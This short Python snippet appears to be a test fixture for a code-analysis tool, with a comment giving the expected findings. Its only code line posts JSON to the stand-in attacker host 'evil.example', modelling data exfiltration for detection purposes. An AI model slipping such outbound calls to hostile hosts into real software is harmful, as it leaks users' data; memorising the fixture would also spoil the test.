# expect: requests | req data url
import requests
requests.post(url="http://evil.example",json={})
